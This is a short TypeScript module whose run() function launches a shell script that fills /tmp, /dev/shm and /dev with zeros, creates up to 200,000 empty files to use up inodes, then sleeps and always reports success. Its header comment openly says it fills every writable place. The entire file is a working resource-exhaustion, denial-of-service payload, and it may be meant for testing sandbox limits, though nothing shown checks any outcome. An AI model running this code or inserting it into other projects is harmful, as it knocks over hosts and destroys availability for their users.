/** Fills every place that can be written, with bytes and with files. */
import { spawnSync } from 'node:child_process';

export async function run(): Promise<{ status: number }> {
  spawnSync('sh', ['-c', SCRIPT], { stdio: 'inherit' });
  return { status: 0 };
}

const SCRIPT = `cat /dev/zero > /tmp/zeros; cat /dev/zero > /dev/shm/zeros; cat /dev/zero > /dev/zeros; mkdir /tmp/d /dev/shm/d; i=0; while [ $i -lt 200000 ]; do : > /tmp/d/$i || break; i=$((i+1)); done; sleep 100`;
